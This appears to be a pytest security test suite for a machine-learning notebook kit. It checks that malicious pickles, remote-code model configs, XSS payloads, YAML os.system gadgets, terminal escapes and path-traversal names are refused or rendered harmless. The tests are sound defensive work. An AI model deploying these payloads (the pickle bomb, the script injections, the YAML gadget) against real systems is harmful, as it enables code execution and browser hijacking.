"""Notebooks are trusted, their data is not: real attacks by files, models, adapters, outputs and names, each refused or
rendered harmless.
"""

import ast
import csv
import importlib.util
import json
import os
import pickle
import re
import socket
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml
from datasets import Dataset
from nbformat.v4 import new_code_cell, new_notebook, new_output

from cli import run as running
from cli.pages import STATE, VIEW, index_page, write_page
from helpers.alignment.reward_model import RewardError, load_reward
from helpers.data.inspection import inspect_dialogues
from helpers.data.loading import load_dialogues
from helpers.data.records import DataError, read_rows
from helpers.display import table, texts, tokens
from helpers.evaluation.statistics import Interval
from helpers.models.loading import ModelError, load_seq2seq
from helpers.run_records import TrainingError
from helpers.settings import SettingsError, load_settings
from helpers.training.finished_runs import load_adapter, load_run
from helpers.training.model_cards import model_card
from helpers.visualization.plots import plot_intervals
from helpers.visualization.widgets import png
from tests.training.training_cases import tiny_run, tiny_settings

ROOT = Path(__file__).resolve().parent.parent
SCRIPT = "<script>alert('x')</script>"
FORMULA = '=HYPERLINK("http://example.org/?"&A1;"click")'


class Bomb:
    """Creates a file when it is unpickled."""

    def __init__(self, path):
        self.path = str(path)

    def __reduce__(self):
        return open, (self.path, "w")


@pytest.fixture
def bomb(tmp_path):
    """(content of a malicious pickle, the file that shows that it went off); it does go off where pickles are read."""
    mark = tmp_path / "went-off"
    content = pickle.dumps(Bomb(mark))
    pickle.loads(content).close()
    assert mark.exists()
    mark.unlink()
    return content, mark


@pytest.fixture
def folder(tiny_model, tiny_tokenizer, tmp_path):
    """A whole model folder that a test may poison."""
    tiny_model.save_pretrained(tmp_path / "model")
    tiny_tokenizer.save_pretrained(tmp_path / "model")
    return tmp_path / "model"


def load(folder):
    return load_seq2seq(load_settings("pocket", model=folder, device="cpu"))


@pytest.mark.parametrize("name", ["pytorch_model.bin", "model.pt", "model.ckpt", "tf_model.h5"])
def test_a_model_in_pickles_is_refused_and_not_even_opened(folder, bomb, name):
    content, mark = bomb
    (folder / "model.safetensors").unlink()
    (folder / name).write_bytes(content)
    with pytest.raises(ModelError, match="has no safetensors file; save the model with save_pretrained"):
        load(folder)
    assert not mark.exists()


def test_a_pickle_beside_safetensors_is_ignored(folder, bomb):
    content, mark = bomb
    for name in ("pytorch_model.bin", "training_args.bin", "optimizer.pt"):
        (folder / name).write_bytes(content)
    assert load(folder)[1].num_parameters() > 0 and not mark.exists()


def test_a_pickle_that_calls_itself_safetensors_is_refused(folder, bomb):
    (folder / "model.safetensors").write_bytes(bomb[0])
    with pytest.raises(ModelError, match="broken or cut short"):
        load(folder)
    assert not bomb[1].exists()


@pytest.mark.parametrize(
    "file, key, kind",
    [
        ("config.json", "AutoModelForSeq2SeqLM", "t5"),
        ("config.json", "AutoConfig", "evil"),
        ("tokenizer_config.json", "AutoTokenizer", "t5"),
    ],
)
def test_code_in_a_model_folder_never_runs(folder, tmp_path, file, key, kind):
    mark = tmp_path / "went-off"
    (folder / "evil.py").write_text(f"open({str(mark)!r}, 'w')\nclass Evil: pass\n", encoding="utf-8")
    config = json.loads((folder / file).read_text(encoding="utf-8"))
    name = ["evil.Evil", None] if "Tokenizer" in key else "evil.Evil"
    changed = (
        config
        | {"auto_map": {key: name}}
        | ({"model_type": kind} if file == "config.json" else {"tokenizer_class": "Evil"})
    )
    (folder / file).write_text(json.dumps(changed), encoding="utf-8")
    try:
        load(folder)
    except ModelError as refused:
        assert str(folder) in str(refused)
    assert not mark.exists()


def test_a_reward_model_in_pickles_is_refused(folder, bomb):
    content, mark = bomb
    (folder / "model.safetensors").unlink()
    (folder / "pytorch_model.bin").write_bytes(content)
    with pytest.raises(RewardError, match="config.json and model.safetensors"):
        load_reward(load_settings("pocket", reward_model=str(folder)))
    assert not mark.exists()


@pytest.mark.parametrize("kind, error", [("lora", TrainingError), ("full", ModelError)])
def test_an_adapter_or_a_run_in_pickles_is_refused(tiny_model, tiny_tokenizer, tmp_path, bomb, kind, error):
    content, mark = bomb
    run = tiny_run(tiny_model, tiny_tokenizer, tmp_path / "runs", kind, steps=2, evaluations=1)
    weights = run.folder / ("adapter_model.safetensors" if kind == "lora" else "model.safetensors")
    pickled = run.folder / ("adapter_model.bin" if kind == "lora" else "pytorch_model.bin")
    pickled.write_bytes(content)
    assert load_run(run.folder, tiny_model, tiny_settings()).loaded and not mark.exists(), (
        "beside safetensors it is ignored"
    )
    weights.unlink()
    with pytest.raises(error, match=r"has no (adapter_model\.)?safetensors"):
        load_run(run.folder, tiny_model, tiny_settings())
    assert not mark.exists()


def test_the_kits_own_code_unpickles_nothing_and_evaluates_nothing():
    forbidden = {"pickle", "marshal", "shelve", "dill", "joblib", "cloudpickle"}
    found = []
    folders = ("helpers", "sweeps", "cli", "pocket")
    code = [ROOT / "kit.py", *(path for name in folders for path in (ROOT / name).rglob("*.py"))]
    assert len(code) > 90
    for path in code:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Import | ast.ImportFrom):
                names = {alias.name.split(".")[0] for alias in node.names} | {
                    (getattr(node, "module", "") or "").split(".")[0]
                }
                found += [f"{path.name}:{node.lineno} {name}" for name in names & forbidden]
            if not isinstance(node, ast.Call):
                continue
            called, given = (
                ast.unparse(node.func),
                {keyword.arg: ast.unparse(keyword.value) for keyword in node.keywords},
            )
            unsafe = (
                called in ("eval", "exec", "os.system")
                or given.get("shell") == "True"
                or given.get("trust_remote_code") == "True"
            )
            if called == "exec" and path.name == "grading_worker.py":
                continue  # to check what was handed in is what that process is for
            if unsafe or (called == "torch.load" and given.get("weights_only") != "True"):
                found.append(f"{path.name}:{node.lineno} {called}")
    assert found == []


class Page(HTMLParser):
    """What could act in a page: tags that run, fetch or send, attributes that are code, addresses elsewhere."""

    def __init__(self, text):
        super().__init__()
        self.active, self.tags = [], []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        named = dict(attrs)
        if (
            tag in ("script", "iframe", "object", "embed", "form", "base", "link", "svg", "video")
            or named.get("http-equiv", "").lower() == "refresh"
        ):
            self.active.append(tag)
        self.active += [f"{tag} {name}" for name in named if name.startswith("on") or name == "srcdoc"]
        self.active += [
            f"{tag} {name}={value}"
            for name, value in attrs
            if name in ("src", "href")
            and (value or "").strip().lower().startswith(("javascript:", "vbscript:", "data:text", "http:", "//"))
        ]


HTML_ATTACKS = [
    SCRIPT,
    "<img src=x onerror=alert(1)>",
    "<img src='http://example.org/pixel.png'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<div onclick='alert(1)'>x</div>",
    "<meta http-equiv='refresh' content='0;url=http://example.org'>",
    "<form action='http://example.org'><input name=a></form>",
    "<link rel=stylesheet href='//example.org/x.css'>",
    "<base href='http://example.org/'>",
    "<<script>script>alert(1)<</script>/script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
]
OUTPUTS = [new_output("display_data", {"text/html": attack}) for attack in HTML_ATTACKS] + [
    new_output("display_data", {"text/markdown": SCRIPT}),
    new_output("display_data", {"text/latex": f"${SCRIPT}$"}),
    new_output("display_data", {"application/javascript": "alert(1)"}),
    new_output("display_data", {"text/plain": SCRIPT}),
    new_output("display_data", {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>"}),
    new_output("display_data", {"image/png": f'AAAA"><img src=x onerror=alert(1)>{SCRIPT}'}),
    new_output("stream", text=f"{SCRIPT}<img src=x onerror=alert(1)>"),
    new_output("error", ename=SCRIPT, evalue=SCRIPT, traceback=[f"File '<img src=x onerror=alert(1)>.csv' {SCRIPT}"]),
]


@pytest.mark.parametrize("output", OUTPUTS, ids=lambda output: str(output.get("data", output.output_type))[:40])
def test_no_output_of_a_notebook_acts_in_its_page(output, tmp_path):
    write_page(new_notebook(cells=[new_code_cell("show()", outputs=[output])]), tmp_path / "page.html", tmp_path)
    page = (tmp_path / "page.html").read_text(encoding="utf-8")
    assert Page(page).active == []
    assert "Content-Security-Policy" in page.partition("<style")[0], "the policy stands before anything it is to govern"


def test_no_widget_acts_in_its_page(tmp_path):
    notebook = new_notebook(
        cells=[new_code_cell("show()", outputs=[new_output("display_data", {VIEW: {"model_id": "box"}})])]
    )
    notebook.metadata.widgets = {
        STATE: {"state": {"box": {"state": {"_model_name": "HTMLModel", "value": HTML_ATTACKS[1] + SCRIPT}}}}
    }
    write_page(notebook, tmp_path / "page.html", tmp_path)
    assert Page((tmp_path / "page.html").read_text(encoding="utf-8")).active == []


def test_what_the_kit_shows_survives_the_cleaning(tmp_path):
    shown = [table(("a", "b"), [("x < y", 1)], title="Numbers"), texts(prompt="Hello"), tokens(["▁a", "\n"], [5, 6])]
    cells = [new_code_cell("show()", outputs=[new_output("display_data", {"text/html": page.data})]) for page in shown]
    cells.append(
        new_code_cell(
            "draw()", outputs=[new_output("display_data", {"image/png": "iVBORw0KGgo=", "text/plain": "figure"})]
        )
    )
    write_page(new_notebook(cells=cells), tmp_path / "page.html", tmp_path)
    page = (tmp_path / "page.html").read_text(encoding="utf-8")
    tags = Page(page).tags
    assert tags.count("table") == 2 and tags.count("td") == 4 and "x &lt; y" in page and "<b>Numbers</b>" in page
    for style in (
        "white-space: pre-wrap",
        "border-collapse: collapse",
        "display: inline-block",
        "background-color: #0072b222",
        "opacity: .6",
        "vertical-align: top",
    ):
        assert style in page.replace(":", ": ").replace(":  ", ": "), style
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in page


@pytest.fixture
def poisoned(tmp_path):
    """A CSV file of dialogues full of code."""
    path = tmp_path / ("data.csv" if os.name == "nt" else "<img src=x onerror=alert(1)>.csv")
    with path.open("w", encoding="utf-8", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(("id", "dialogue", "summary", "topic"))
        rows.writerows(
            (f"{number}{SCRIPT}", f"#Person1#: {FORMULA} {SCRIPT} {number}", FORMULA, "$\\evil$ and $")
            for number in range(20)
        )
    return path


def test_a_cell_with_code_or_a_formula_is_shown_as_it_stands(poisoned, tmp_path):
    (row, *_) = load_dialogues(load_settings("pocket", data=str(poisoned)))["test"]
    assert row["summary"] == FORMULA and SCRIPT in row["dialogue"], "data is not changed in silence"
    for shown in (
        table(row.keys(), [row.values()], title=str(poisoned)),
        texts(SCRIPT, **{key: row[key] for key in ("id", "dialogue", "summary")}),
        tokens([row["dialogue"]]),
    ):
        assert Page(shown.data).active == [] and not {"a", "img", "script"} & set(Page(shown.data).tags)
        assert "&lt;script&gt;" in shown.data


def test_the_report_about_a_file_of_code_shows_it_and_obeys_none_of_it(poisoned):
    report = inspect_dialogues(poisoned, load_settings("pocket"), show_progress=False)
    assert not report.errors and {"HTML", "formula"} <= {
        word for finding in report.warnings for word in finding.what.split()
    }
    page = Page(report.show().data)
    assert page.active == [] and not {"a", "img", "script"} & set(page.tags) and "&lt;script&gt;" in report.show().data


@pytest.mark.parametrize("value", ["\x1b[2J\x1b]0;title\x07", "\u202etxt.exe", "a\rb", "\x9b31m"])
def test_the_report_gives_the_terminal_no_orders(tmp_path, value):
    rows = [
        {
            "dialogue": f"#Person1#: {number} {value}\n#Person2#: yes",
            "summary": "" if number else value,
            f"column {value}": number,
        }
        for number in range(12)
    ]
    (tmp_path / "data.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    report = inspect_dialogues(tmp_path / "data.jsonl", load_settings("pocket"), show_progress=False)
    assert report.errors and all(letter.isprintable() for line in str(report).splitlines() for letter in line)


@pytest.fixture(scope="module")
def finished(tiny_model, tiny_tokenizer, tmp_path_factory):
    """A run of LoRA."""
    return tiny_run(tiny_model, tiny_tokenizer, tmp_path_factory.mktemp("runs"), "lora", steps=1, evaluations=1)


@pytest.mark.parametrize(
    "attack",
    [
        "x\nlicense: mit",
        "x\n---\n# Owned",
        "x: !!python/object/apply:os.system [id]",
        "{{ 7*7 }}",
        "&a *a",
        "x # y",
        "- x",
        "'\"",
        "\x00x",
        SCRIPT,
        "[x](javascript:alert(1))",
        "```\n" + SCRIPT,
        "| x |",
    ],
)
@pytest.mark.parametrize("field", ["name", "data", "model"])
def test_no_name_writes_its_own_metadata_or_code_into_a_model_card(finished, tiny_tokenizer, attack, field):
    rows = [{"dialogue": "#Person1#: Hi.", "summary": SCRIPT, "summaries": [SCRIPT]}]
    data = {split: Dataset.from_list(rows) for split in ("train", "validation", "test")}
    path = "/" + attack.replace("/", "")
    settings = replace(tiny_settings(), **({field: path if os.name != "nt" else attack} if field != "name" else {}))
    text = str(
        model_card(
            finished.record,
            settings,
            data,
            tiny_tokenizer,
            {"ROUGE-1": ([0.1, 0.2], [0.2, 0.4])},
            attack if field == "name" else "mine",
        )
    )
    block, body = yaml.safe_load(text.split("---\n")[1]), text.split("\n---\n", 1)[1]
    assert (
        sorted(block) == ["base_model", "library_name", "license", "model-index", "pipeline_tag", "tags"]
        and block["license"] == "unknown"
    )
    assert isinstance(block["base_model"], str) and isinstance(block["model-index"][0]["name"], str)
    fences = [line for line in body.splitlines() if line.lstrip().startswith("```")]
    assert fences == ["```python", "```"] and "Owned" not in [line.strip("# ") for line in body.splitlines()]
    prose = body.partition("```python")[0] + body.rpartition("\n```")[2]
    assert "<script" not in prose and "\x00" not in text
    assert not re.search(r"(?<!\\)\]\(javascript", prose), "a bracket behind a backslash ends no link, any other does"


@pytest.mark.parametrize("name", ["adapter_model.bin", "adapter_model.pt"])
def test_an_exported_adapter_in_pickles_is_refused(tiny_model, tmp_path, bomb, name):
    content, mark = bomb
    (tmp_path / "adapter").mkdir()
    (tmp_path / "adapter" / name).write_bytes(content)
    (tmp_path / "adapter" / "adapter_config.json").write_text(
        '{"peft_type": "LORA", "base_model_name_or_path": "x", "target_modules": ["q"]}', encoding="utf-8"
    )
    with pytest.raises(
        TrainingError, match=r"has no adapter_model\.safetensors; weights in another format are not read"
    ):
        load_adapter(tmp_path / "adapter", tiny_model)
    (tmp_path / "adapter" / "adapter_model.safetensors").write_bytes(content)
    with pytest.raises(TrainingError, match="or is damaged"):
        load_adapter(tmp_path / "adapter", tiny_model)
    assert not mark.exists()


def test_a_name_in_a_figure_is_no_formula():
    interval = Interval(0.5, 0.4, 0.6)
    assert png(plot_intervals({"$\\evil$": interval, "$\\frac{$ and $": interval}, "score")).startswith(b"\x89PNG")


@pytest.mark.parametrize("line", ['{"dialogue": ' + "[" * 100_000, '{"id": ' + "1" * 5000 + "}"], ids=["deep", "long"])
def test_a_line_made_to_exhaust_the_reader_is_a_bad_row(tmp_path, line):
    (tmp_path / "data.jsonl").write_text(line + '\n{"a": 1}\n', encoding="utf-8")
    rows, (problem,) = read_rows(tmp_path / "data.jsonl")
    assert len(rows) == 1 and problem.line == 1 and "nested too deeply" in problem.what


def test_a_message_gives_the_terminal_no_orders():
    assert running.plain("\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b2J\ttab\nend") == "red ]0;title 2J\ttab\nend"


@pytest.mark.parametrize(
    "name",
    [
        "javascript:alert(1)//",
        "../../x",
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "//example.org/x",
    ],
)
def test_no_name_acts_or_leads_elsewhere_in_the_index(name):
    result = {
        "name": name,
        "title": SCRIPT,
        "profile": SCRIPT,
        "status": SCRIPT,
        "cells": SCRIPT,
        "cells_run": SCRIPT,
        "seconds": 1.0,
        "finished": SCRIPT,
        "claims": [{"claim": SCRIPT, "value": SCRIPT, "holds": True}],
        "figures": [name],
    }
    page = index_page([result], {SCRIPT: SCRIPT})
    links = [value for piece in page.split('href="')[1:] if (value := piece.partition('"')[0])]
    assert Page(page).active == [] and len(links) == 3
    assert all(
        ":" not in link and "//" not in link and ".." not in link.split("/") and link.count("/") <= 1 for link in links
    )
    assert "Content-Security-Policy" in page.partition("<style")[0]


@pytest.mark.parametrize("name", ["../../x", "..", "/etc/passwd", "<b>", "os; import sys"])
def test_commands_take_no_path_for_a_name(name):
    spec = importlib.util.spec_from_file_location("kit", ROOT / "kit.py")
    kit = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(kit)
    with pytest.raises(kit.KitError, match="is not one of"):
        kit.choose_labs([name], kit.find_labs())
    with pytest.raises(kit.KitError, match="is not one of"):
        kit.choose_benchmarks([name])


def test_a_path_that_leads_nowhere_is_named_not_followed(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(SettingsError, match="does not exist"):
        load_settings("pocket", data="../../x/../nowhere.csv")
    with pytest.raises(DataError, match=r"ends in '\.pkl'"):
        read_rows(tmp_path / "data.pkl")


def test_a_chain_of_runnables_calls_nobody(monkeypatch):
    """langchain-core can send traces to a service; the lab on applications switches that off."""
    from langchain_core.runnables import RunnableLambda
    from langsmith.utils import tracing_is_enabled

    def connect(*_, **__):
        raise AssertionError("a connection was opened")

    for name in ("LANGSMITH_TRACING", "LANGCHAIN_TRACING_V2", "LANGCHAIN_TRACING"):
        monkeypatch.setenv(name, "false")
    monkeypatch.setattr(socket.socket, "connect", connect)
    chain = RunnableLambda(lambda number: number + 1) | RunnableLambda(lambda number: number * 2)
    assert chain.batch([1, 2]) == [4, 6] and not tracing_is_enabled()
